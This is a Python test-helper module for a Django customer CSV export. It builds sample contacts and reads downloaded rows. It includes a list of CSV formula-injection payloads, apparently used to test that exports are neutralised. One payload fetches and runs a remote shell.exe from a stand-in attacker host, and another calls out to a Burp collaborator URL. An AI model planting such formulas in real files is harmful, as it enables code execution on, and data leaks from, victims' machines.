"""Helpers the export tests share (writer, selectors, views, command): a contact with everything, reading a download."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone

from companies.models import CompanyAccess, MembershipAccess
from customers.export import FULL
from customers.models import (
    ConsentChannel,
    ConsentRecord,
    ConsentSource,
    ConsentState,
    Contact,
    Source,
    Stage,
)
from tests.factories import (
    CompanyFactory,
    ContactFactory,
    LabelFactory,
    MembershipFactory,
    PhoneNumberFactory,
)

EXPORT = reverse("customers:export")


LIST = reverse("customers:list")


NOTHING = "No contacts match this selection, so there is nothing to export."


SHOPIFY_HEADER_FILE = Path(__file__).resolve().parents[2] / "fixtures" / "shopify-customers-export-header.csv"


# PayloadsAllTheThings, "CSV Injection" (swisskyrepo/PayloadsAllTheThings), plus each formula start on its own.
PAYLOADS = [
    'DDE ("cmd";"/C calc";"!A0")A0',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
    "=         cmd|'/c calc.exe'!A",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
    "=    C    m D                    |        '/        c       c  al  c      .  e"
    "                  x       e  '   !   A",
    '=IMPORTXML("http://burp.collaborator.net/csv", "//a/@href")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|'/C calc'!A1",
    "@SUM(1+9)",
    "\t=cmd|'/C calc'!A0",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def body_of(response) -> str:
    assert response.status_code == 200, response.content[:500]
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode("utf-8")


def download(client, **data) -> list[list[str]]:
    """Post the export form with `download` and return the file's rows (header first)."""
    return rows_of(body_of(client.post(EXPORT, {"download": "1", "columns": FULL, "scope": "all", **data})))


def column(rows: list[list[str]], name: str) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


def everything_contact() -> Contact:
    """A contact with every exported field filled in."""
    contact = ContactFactory(
        first_name="Ann",
        last_name="Lee",
        email="ann@x.example",
        stage=Stage.CUSTOMER,
        source=Source.ORDER,
        address_line1="1 High Street",
        address_line2="Flat 2",
        city="Leeds",
        region="West Yorkshire",
        postal_code="LS1 1AA",
        country="GB",
        marketing_consent=ConsentState.UNSUBSCRIBED,
        orders_count=3,
        total_spent=Decimal("120.50"),
        last_order_at=datetime(2026, 3, 1, 9, 30, tzinfo=UTC),
        details_locked=True,
    )
    PhoneNumberFactory(contact=contact, number="+442071838750", label="mobile", position=0)
    PhoneNumberFactory(contact=contact, number="+447700900123", label="", position=1)
    contact.labels.add(LabelFactory(name="VIP"), LabelFactory(name="Newsletter"))
    # Joined Beta first: the export lists companies by name.
    MembershipFactory(
        contact=contact,
        company=CompanyFactory(name="Beta", default_portal_access=CompanyAccess.COMPANY),
        portal_access=MembershipAccess.PERSONAL,
    )
    MembershipFactory(
        contact=contact,
        company=CompanyFactory(name="Acme", default_portal_access=CompanyAccess.COMPANY),
        portal_access=MembershipAccess.INHERIT,
    )
    for channel, state, day in [
        (ConsentChannel.EMAIL, ConsentState.SUBSCRIBED, 1),
        (ConsentChannel.EMAIL, ConsentState.UNSUBSCRIBED, 20),
        (ConsentChannel.SMS, ConsentState.SUBSCRIBED, 25),
    ]:
        ConsentRecord.objects.create(
            contact=contact,
            channel=channel,
            state=state,
            source=ConsentSource.STAFF,
            given_at=datetime(2026, 2, day, 12, 0, tzinfo=UTC),
            collected_how=f"By phone, day {day}",
        )
    return contact


def everything_contact_lite() -> Contact:
    contact = ContactFactory()
    PhoneNumberFactory(contact=contact)
    contact.labels.add(LabelFactory())
    MembershipFactory(contact=contact)
    ConsentRecord.objects.create(
        contact=contact,
        state=ConsentState.SUBSCRIBED,
        source=ConsentSource.STAFF,
        given_at=timezone.now(),
        collected_how="By phone",
    )
    return contact
